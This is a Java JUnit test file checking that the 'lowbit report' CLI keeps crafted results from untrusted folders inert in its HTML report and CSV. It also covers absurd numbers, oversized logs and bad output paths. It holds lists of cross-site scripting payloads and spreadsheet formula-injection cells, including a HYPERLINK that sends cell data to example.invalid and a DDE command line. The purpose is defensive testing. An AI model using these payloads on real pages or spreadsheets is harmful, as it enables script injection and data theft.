package dev.lowbit.harness.report;

import static dev.lowbit.harness.cli.CliTest.lowbit;
import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;

import com.fasterxml.jackson.databind.MappingIterator;
import com.fasterxml.jackson.databind.node.ObjectNode;
import com.fasterxml.jackson.dataformat.csv.CsvMapper;
import com.fasterxml.jackson.dataformat.csv.CsvParser;
import dev.lowbit.format.result.RunConfig;
import dev.lowbit.harness.cli.CliTest;
import dev.lowbit.harness.cli.Main;
import dev.lowbit.harness.store.RunIds;
import java.io.BufferedWriter;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import java.util.Set;
import java.util.concurrent.TimeUnit;
import java.util.logging.Level;
import java.util.logging.Logger;
import java.util.stream.Stream;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Attribute;
import org.jsoup.nodes.Document;
import org.jsoup.nodes.Element;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.openqa.selenium.chrome.ChromeDriver;
import org.openqa.selenium.chrome.ChromeDriverService;
import org.openqa.selenium.chrome.ChromeOptions;
import org.openqa.selenium.chromium.ChromiumNetworkConditions;

/**
 * {@code lowbit report} (and the report {@code lowbit run} writes) over a results folder from someone
 * else: crafted text stays text in the page and in the CSV, absurd numbers and huge files cost their
 * run a warning and nothing else, and an output path that cannot be written is one line and exit 2.
 */
class UntrustedResultsCliTest {

    /**
     * Each breaks out of a single- or double-quoted attribute, out of text, out of the data script or
     * out of SVG, and would set {@code window.lowbitPwned} (and the page's title) if it ran.
     */
    static final List<String> SCRIPT_PAYLOADS = List.of(
            "'\"><script>document.title='x';window.lowbitPwned=1</script>",
            "' onload='document.title=\"x\";window.lowbitPwned=2' x='",
            "\" onload=\"window.lowbitPwned=3\" x=\"",
            "javascript:window.lowbitPwned=4",
            "</script><script>window.lowbitPwned=5</script><!--",
            "<img src=x onerror=window.lowbitPwned=6>",
            "<svg onload=window.lowbitPwned=7>",
            "]]><svg><script>window.lowbitPwned=8</script></svg>",
            "<iframe srcdoc=\"<script>parent.lowbitPwned=9</script>\"></iframe>",
            "{{title}}{{{dataJson}}}");

    /** Cells a spreadsheet would evaluate (OWASP, "CSV Injection"). */
    static final List<String> FORMULAS = List.of(
            "=HYPERLINK(\"http://example.invalid/?d=\"&A1,\"click\")",
            "+1+2",
            "@SUM(1,2)",
            "=cmd|' /C calc'!A0",
            "-2+3");

    static final Path CHROMIUM = Path.of("/usr/bin/chromium");
    static final Path CHROMEDRIVER = Path.of("/usr/bin/chromedriver");

    /** Quiet: Selenium's "Unable to find CDP implementation" (see ReportBrowserTest). Held: loggers are weak. */
    private static final Logger CDP_VERSION_FINDER = Logger.getLogger("org.openqa.selenium.devtools.CdpVersionFinder");

    @TempDir
    Path dir;

    private Path results() {
        return dir.resolve("results");
    }

    private Path writeCraftedRuns(List<String> payloads) {
        CraftedResults.writeValidStudy(results());
        for (int i = 0; i < payloads.size(); i++) {
            CraftedResults.write(
                    results(),
                    "crafted",
                    "run" + i,
                    CraftedResults.crafted(payloads.get(i)),
                    CraftedResults.craftedEpochs(payloads.get(i)));
        }
        return results();
    }

    @Test
    void aCraftedFolderRunsNoScriptInChromiumAndAddsNoMarkupToThePage() throws Exception {
        writeCraftedRuns(SCRIPT_PAYLOADS);
        Path page = dir.resolve("report").resolve("index.html");

        CliTest.Result result = lowbit("report", results().toString(), "-o", page.toString());

        assertThat(result.exitCode()).as(result.err()).isZero();
        assertThat(result.err())
                .as("every crafted run has valid numbers and is shown")
                .isEmpty();
        assertNoMarkupFromThePayloads(Jsoup.parse(page.toFile()));
        assertNoScriptRunsInChromium(page);
    }

    /** jsoup, as a browser parses: every element and attribute is one the template or the charts write. */
    static void assertNoMarkupFromThePayloads(Document page) {
        assertThat(page.title()).isEqualTo("lowbit report");
        assertThat(page.select("script")).as("script elements").hasSize(1);
        assertThat(page.selectFirst("script").id()).isEqualTo("lowbit-data");
        assertThat(page.select("img, iframe, object, embed, image, foreignObject"))
                .as("injected elements")
                .isEmpty();
        Set<String> textAttributes = Set.of("data-run-id", "data-runs", "title");
        for (Element element : page.getAllElements()) {
            for (Attribute attribute : element.attributes()) {
                assertThat(attribute.getKey().toLowerCase(Locale.ROOT))
                        .as("attribute of <%s>", element.tagName())
                        .doesNotStartWith("on")
                        .doesNotContain("lowbitpwned")
                        .doesNotContain("srcdoc");
                if (attribute.getValue().contains("lowbitPwned")) {
                    // Payload text is allowed where it is inert text, and in a run's anchor once slugged.
                    boolean slug = Set.of("id", "href").contains(attribute.getKey())
                            && attribute.getValue().matches("#?run-[A-Za-z0-9._-]+");
                    assertThat(textAttributes.contains(attribute.getKey()) || slug)
                            .as("the attribute %s=\"%s\" holds payload text", attribute.getKey(), attribute.getValue())
                            .isTrue();
                }
            }
            if (element.hasAttr("href")) {
                assertThat(element.attr("href")).as("link").doesNotContainIgnoringCase("javascript:");
            }
        }
        // Each payload is there as text, in the runs table: shown, not run.
        assertThat(page.select("table#runs tbody tr").eachAttr("data-run-id")).containsAll(SCRIPT_PAYLOADS);
    }

    private static void assertNoScriptRunsInChromium(Path page) {
        CDP_VERSION_FINDER.setLevel(Level.SEVERE);
        assertThat(Files.isExecutable(CHROMIUM) && Files.isExecutable(CHROMEDRIVER))
                .as("this test needs %s and %s: apt-get install chromium chromium-driver", CHROMIUM, CHROMEDRIVER)
                .isTrue();
        ChromeDriverService service = new ChromeDriverService.Builder()
                .usingDriverExecutable(CHROMEDRIVER.toFile())
                .usingAnyFreePort()
                .build();
        ChromeOptions options = new ChromeOptions();
        options.setBinary(CHROMIUM.toFile());
        options.addArguments(
                "--headless=new",
                "--no-sandbox",
                "--disable-dev-shm-usage",
                "--disable-gpu",
                "--no-first-run",
                "--disable-extensions",
                "--disable-background-networking",
                "--host-resolver-rules=MAP * ~NOTFOUND, EXCLUDE localhost");
        ChromeDriver browser = new ChromeDriver(service, options);
        try {
            browser.setNetworkConditions(new ChromiumNetworkConditions().setOffline(true));
            browser.get(page.toUri().toString());
            // The per-run sections are collapsed; opening them renders their SVG as a reader would.
            browser.executeScript("document.querySelectorAll('details').forEach(d => d.open = true)");
            assertThat((String) browser.executeScript("return document.readyState"))
                    .isEqualTo("complete");
            assertThat(browser.getTitle()).isEqualTo("lowbit report");
            assertThat(browser.executeScript("return typeof window.lowbitPwned"))
                    .as("a payload ran")
                    .isEqualTo("undefined");
            assertThat((Long) browser.executeScript("return document.scripts.length"))
                    .isEqualTo(1L);
            assertThat(
                            (Long)
                                    browser.executeScript(
                                            "return document.querySelectorAll('img, iframe, object, embed, image, foreignObject').length"))
                    .isZero();
            @SuppressWarnings("unchecked")
            List<String> handlers = (List<String>) browser.executeScript("""
                    const found = [];
                    for (const element of document.querySelectorAll('*')) {
                      for (const attribute of element.attributes) {
                        if (attribute.name.toLowerCase().startsWith('on')) {
                          found.push(element.tagName + ' ' + attribute.name);
                        }
                      }
                    }
                    return found;""");
            assertThat(handlers).as("event handler attributes").isEmpty();
        } finally {
            browser.quit();
        }
    }

    @Test
    void theCsvOfACraftedFolderHasNoCellASpreadsheetEvaluates() throws IOException {
        writeCraftedRuns(FORMULAS);
        Path page = dir.resolve("report").resolve("index.html");

        CliTest.Result result = lowbit("report", results().toString(), "-o", page.toString());

        assertThat(result.exitCode()).as(result.err()).isZero();
        List<List<String>> rows = new ArrayList<>();
        try (MappingIterator<List<String>> cells = new CsvMapper()
                .readerForListOf(String.class)
                .with(CsvParser.Feature.WRAP_AS_ARRAY)
                .readValues(dir.resolve("report").resolve("index.csv").toFile())) {
            cells.forEachRemaining(rows::add);
        }
        assertThat(rows).hasSize(1 + 2 + FORMULAS.size());
        List<String> header = rows.get(0);
        for (List<String> row : rows.subList(1, rows.size())) {
            for (String column : List.of(
                    "runId",
                    "suite",
                    "dataset",
                    "architecture",
                    "quantizer",
                    "layerPolicy",
                    "recipe",
                    "epochsToParity",
                    "status")) {
                String cell = row.get(header.indexOf(column));
                assertThat(cell.isEmpty() ? ' ' : cell.stripLeading().charAt(0))
                        .as("%s cell '%s'", column, cell)
                        .isNotIn('=', '+', '-', '@', '\t', '\r');
            }
        }
        // The formulas are kept, as text a spreadsheet shows: the leading ' only tells it so.
        assertThat(rows)
                .extracting(row -> row.get(header.indexOf("runId")))
                .containsAll(FORMULAS.stream().map(formula -> "'" + formula).toList());
        // Numbers stay numbers: the ternary run is 1.4 points below its fp32 twin, written as such.
        String ternary = Files.readAllLines(dir.resolve("report").resolve("index.csv")).stream()
                .filter(line -> line.startsWith("\"fcnn-small.ternary.s1\""))
                .findFirst()
                .orElseThrow();
        assertThat(ternary).containsPattern(",-1\\.[0-9]+,").doesNotContain("'-1");
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {
                "run.json     | testAccuracy            | Infinity",
                "run.json     | testAccuracy            | 1.5",
                "run.json     | quantizer.bitsPerWeight | Infinity",
                "run.json     | quantizer.bitsPerWeight | -1",
                "run.json     | quantizer.bitsPerWeight | 65",
                "epochs.jsonl | validationAccuracy      | Infinity",
                "epochs.jsonl | flipRatio               | 1e308",
            })
    void oneAbsurdNumberCostsItsRunAWarningAndTheReportIsWritten(String file, String field, String value)
            throws IOException {
        CraftedResults.writeValidStudy(results());
        Path bad = CraftedResults.write(
                results(),
                "quick",
                "fcnn-small.binary.s1",
                CraftedResults.finished(
                        "fcnn-small.binary.s1",
                        CraftedResults.quick("fcnn-small", "binary"),
                        CraftedResults.ternary(),
                        0.7),
                CraftedResults.epochs());
        if (file.equals("run.json")) {
            ObjectNode run =
                    (ObjectNode) CraftedResults.JSON.readTree(bad.resolve(file).toFile());
            ObjectNode owner = field.contains(".") ? (ObjectNode) run.get(field.substring(0, field.indexOf('.'))) : run;
            owner.put(field.substring(field.indexOf('.') + 1), Double.parseDouble(value));
            Files.writeString(bad.resolve(file), CraftedResults.JSON.writeValueAsString(run));
        } else {
            List<String> lines = new ArrayList<>(Files.readAllLines(bad.resolve(file)));
            ObjectNode epoch = (ObjectNode) CraftedResults.JSON.readTree(lines.get(1));
            epoch.put(field, Double.parseDouble(value));
            lines.set(1, CraftedResults.JSON.writeValueAsString(epoch));
            Files.write(bad.resolve(file), lines);
        }
        Path page = dir.resolve("report").resolve("index.html");

        CliTest.Result result = lowbit("report", results().toString(), "-o", page.toString());

        assertThat(result.exitCode()).as(result.err()).isZero();
        assertThat(result.err().lines())
                .singleElement()
                .asString()
                .startsWith("warning: skipping run '" + bad + "': "
                        + (file.equals("run.json") ? "run.json" : "epochs.jsonl line 2") + ": '" + field + "' is "
                        + Double.parseDouble(value) + "; allowed: ")
                .endsWith("The file is damaged or was edited: delete the run's folder and run it again");
        Document report = Jsoup.parse(page.toFile());
        assertThat(report.select("table#runs tbody tr").eachAttr("data-run-id"))
                .containsExactly("fcnn-small.fp32.s1", "fcnn-small.ternary.s1");
        assertThat(report.select("#skipped li").eachText())
                .singleElement()
                .asString()
                .contains("'" + field + "'");
        assertThat(report.select("figure svg")).as("the charts are drawn").isNotEmpty();
    }

    /**
     * Two runs with 200,000 epochs each: one whose lines are what lowbit writes (88 MB), one of short
     * lines that stays under the size limit but not under the epoch limit.
     */
    private void writeTwoHugeEpochLogs() throws IOException {
        CraftedResults.writeValidStudy(results());
        // A line as lowbit wrote it for fcnn-large / ternary.
        String realistic = "{\"epoch\":%d,\"trainLoss\":1.645103960429817,\"trainAccuracy\":0.5559666975023126,"
                + "\"validationLoss\":1.0087114863035058,\"validationAccuracy\":0.6722689075630253,"
                + "\"seconds\":0.417592765,\"learningRate\":0.0010000000474974513,\"flipRatio\":0.04166935248212321,"
                + "\"beyondOutermostShare\":0.2209856727860286,\"lossSpikes\":0,\"levelOccupancy\":{"
                + "\"04QuantizedLinear_weight\":[287627,481678,279271],\"06QuantizedLinear_weight\":[2767,4742,2731],"
                + "\"02QuantizedLinear_weight\":[218280,368367,216169]}}";
        writeEpochs(
                CraftedResults.write(
                        results(),
                        "quick",
                        "huge",
                        CraftedResults.finished(
                                "huge", CraftedResults.quick("fcnn-large", "fp32"), CraftedResults.fp32(), 0.8),
                        List.of()),
                realistic);
        writeEpochs(
                CraftedResults.write(
                        results(),
                        "quick",
                        "long",
                        CraftedResults.finished(
                                "long", CraftedResults.quick("cnn-small", "fp32"), CraftedResults.fp32(), 0.8),
                        List.of()),
                "{\"epoch\":%d,\"validationAccuracy\":0.5}");
    }

    private static void writeEpochs(Path run, String lineFormat) throws IOException {
        try (BufferedWriter out = Files.newBufferedWriter(run.resolve("epochs.jsonl"), StandardCharsets.UTF_8)) {
            for (int epoch = 1; epoch <= 200_000; epoch++) {
                out.write(String.format(Locale.ROOT, lineFormat, epoch));
                out.write('\n');
            }
        }
    }

    @Test
    void epochLogsOf200000LinesAreSkippedWithAWarningAndThePageStaysSmall() throws IOException {
        writeTwoHugeEpochLogs();
        assertThat(Files.size(results().resolve("quick").resolve("huge").resolve("epochs.jsonl")))
                .isGreaterThan(80_000_000);
        Path page = dir.resolve("report").resolve("index.html");

        // A bound, not a measurement: before, this took minutes.
        CliTest.Result result = assertTimeoutPreemptively(
                Duration.ofSeconds(60), () -> lowbit("report", results().toString(), "-o", page.toString()));

        assertThat(result.exitCode()).as(result.err()).isZero();
        assertThat(result.err().lines())
                .containsExactly(
                        "warning: skipping run '" + results().resolve("quick").resolve("huge") + "': epochs.jsonl is "
                                + String.format(
                                        Locale.ROOT,
                                        "%,d",
                                        Files.size(results()
                                                .resolve("quick")
                                                .resolve("huge")
                                                .resolve("epochs.jsonl")))
                                + " bytes, more than the 16 MiB a report reads for one run (README, \"The report\")",
                        "warning: skipping run '" + results().resolve("quick").resolve("long")
                                + "': epochs.jsonl holds more"
                                + " than 1000 epochs, the most a report draws for one run (README, \"The report\")");
        assertThat(Files.size(page)).as("the page's bytes").isLessThan(1_000_000);
        assertThat(Jsoup.parse(page.toFile()).select("table#runs tbody tr")).hasSize(2);
    }

    @Test
    void theHugeFolderIsReportedWithin256MegabytesOfHeap() throws Exception {
        writeTwoHugeEpochLogs();
        Path page = dir.resolve("report").resolve("index.html");
        Path log = dir.resolve("child.log");
        List<String> command = List.of(
                Path.of(System.getProperty("java.home"), "bin", "java").toString(),
                "-Xmx256m",
                "-cp",
                System.getProperty("java.class.path"),
                Main.class.getName(),
                "report",
                results().toString(),
                "-o",
                page.toString());

        Process child = new ProcessBuilder(command)
                .redirectErrorStream(true)
                .redirectOutput(log.toFile())
                .start();
        boolean exited = child.waitFor(120, TimeUnit.SECONDS);
        if (!exited) {
            child.destroyForcibly();
        }

        String output = Files.readString(log);
        assertThat(exited).as("the report finished: %s", output).isTrue();
        assertThat(child.exitValue()).as(output).isZero();
        assertThat(output)
                .doesNotContain("OutOfMemoryError")
                .contains("epochs.jsonl is ")
                .contains("Report: ");
    }

    @Test
    void anOutputPathThatIsADirectoryIsOneLineAndExitTwoAndLeavesNothingBehind() throws IOException {
        CraftedResults.writeValidStudy(results());
        Path folder = Files.createDirectories(dir.resolve("out").resolve("index.html"));

        CliTest.Result result = lowbit("report", results().toString(), "-o", folder.toString());

        assertThat(result.exitCode()).isEqualTo(2);
        assertThat(result.err())
                .isEqualTo("lowbit: Cannot write the report to '" + folder + "': it is a directory. Give"
                        + " a file name, e.g. -o " + folder.resolve("index.html") + "." + System.lineSeparator());
        assertThat(filesUnder(dir.resolve("out"))).containsExactly(folder);
    }

    @Test
    void anOutputPathUnderAFileIsOneLineAndExitTwo() throws IOException {
        CraftedResults.writeValidStudy(results());
        Path file = Files.writeString(dir.resolve("notes.txt"), "notes");

        CliTest.Result result = lowbit(
                "report",
                results().toString(),
                "-o",
                file.resolve("report").resolve("index.html").toString());

        assertThat(result.exitCode()).isEqualTo(2);
        assertThat(result.err())
                .isEqualTo("lowbit: Cannot write the report to '"
                        + file.resolve("report").resolve("index.html") + "': '" + file
                        + "' is a file, not a directory. Give -o a path in a directory,"
                        + " e.g. -o report/index.html." + System.lineSeparator());
        assertThat(Files.readString(file)).isEqualTo("notes");
    }

    @Test
    void aFolderThatTakesNoFilesIsOneLineAndExitTwo() {
        CraftedResults.writeValidStudy(results());
        // /proc/1 is a directory no one, root included, can create a file in.
        Path target = Path.of("/proc/1/report.html");

        CliTest.Result result = lowbit("report", results().toString(), "-o", target.toString());

        assertThat(result.exitCode()).isEqualTo(2);
        assertThat(result.err())
                .startsWith("lowbit: Cannot write the report to '" + target + "': writing a file in"
                        + " '/proc/1' failed (")
                .endsWith("). Give -o a file in a folder you can write to." + System.lineSeparator());
        assertThat(result.err().lines()).hasSize(1);
    }

    @Test
    void theCsvBesideTheReportBeingADirectoryLeavesTheOldReportAlone() throws IOException {
        CraftedResults.writeValidStudy(results());
        Path page =
                Files.writeString(Files.createDirectories(dir.resolve("out")).resolve("index.html"), "old report");
        Path csv = Files.createDirectories(dir.resolve("out").resolve("index.csv"));

        CliTest.Result result = lowbit("report", results().toString(), "-o", page.toString());

        assertThat(result.exitCode()).isEqualTo(2);
        assertThat(result.err())
                .isEqualTo("lowbit: Cannot write the CSV beside the report to '" + csv + "': it is a"
                        + " directory. Remove it or give -o another file name." + System.lineSeparator());
        assertThat(Files.readString(page)).isEqualTo("old report");
        assertThat(filesUnder(dir.resolve("out"))).containsExactlyInAnyOrder(page, csv);
    }

    @Test
    void aReportFolderInTheResultsThatLinksElsewhereIsNotWrittenThrough() throws IOException {
        CraftedResults.writeValidStudy(results());
        Path elsewhere = Files.createDirectories(dir.resolve("elsewhere"));
        Files.writeString(elsewhere.resolve("index.html"), "someone's own page");
        Path link = Files.createSymbolicLink(results().resolve("report"), elsewhere);

        CliTest.Result result = lowbit("report", results().toString());

        assertThat(result.exitCode()).isEqualTo(2);
        assertThat(result.err())
                .isEqualTo("lowbit: '" + link + "' is a symbolic link; lowbit writes the report into"
                        + " the results folder only when 'report' there is a real folder. Remove the link, or give -o FILE."
                        + System.lineSeparator());
        assertThat(filesUnder(elsewhere)).containsExactly(elsewhere.resolve("index.html"));
        assertThat(Files.readString(elsewhere.resolve("index.html"))).isEqualTo("someone's own page");
    }

    @Test
    void lowbitRunWritesItsReportThroughTheSameChecks() throws IOException {
        // The one run of this plan is stored as finished, so 'lowbit run' trains nothing and only re-renders.
        RunConfig planned = CraftedResults.quick("fcnn-small", "fp32");
        String runId = RunIds.of(planned);
        Path out = dir.resolve("results");
        CraftedResults.write(
                out,
                "quick",
                runId,
                CraftedResults.finished(runId, planned, CraftedResults.fp32(), 0.875),
                CraftedResults.epochs());
        CliTest.Result plan = lowbit("plan", "--arch", "fcnn-small", "--quantizer", "fp32", "--out", out.toString());
        assertThat(plan.out())
                .as("the crafted run is the planned one")
                .contains(runId)
                .contains("1 runs, 1 done");
        for (int i = 0; i < SCRIPT_PAYLOADS.size(); i++) {
            CraftedResults.write(
                    out,
                    "quick",
                    "crafted" + i,
                    CraftedResults.crafted(SCRIPT_PAYLOADS.get(i)),
                    CraftedResults.craftedEpochs(SCRIPT_PAYLOADS.get(i)));
        }
        Path infinite = CraftedResults.write(
                out,
                "quick",
                "infinite",
                CraftedResults.finished(
                        "infinite",
                        CraftedResults.quick("fcnn-large", "fp32"),
                        CraftedResults.fp32(),
                        Double.POSITIVE_INFINITY),
                CraftedResults.epochs());

        CliTest.Result result = lowbit("run", "--arch", "fcnn-small", "--quantizer", "fp32", "--out", out.toString());

        assertThat(result.exitCode()).as(result.err()).isZero();
        assertThat(result.out()).contains("Trained 0, skipped 1 finished");
        assertThat(result.err().lines().filter(line -> line.startsWith("warning: ")))
                .containsExactly("warning: skipping run '" + infinite
                        + "': run.json: 'testAccuracy' is Infinity; allowed: a fraction"
                        + " from 0 to 1, or NaN when there is none. The file is damaged or was edited: delete the"
                        + " run's folder and run it again");
        assertNoMarkupFromThePayloads(Jsoup.parse(
                out.resolve("quick").resolve("report").resolve("index.html").toFile()));
    }

    private static List<Path> filesUnder(Path folder) throws IOException {
        try (Stream<Path> files = Files.walk(folder)) {
            return files.filter(path -> !path.equals(folder)).toList();
        }
    }
}
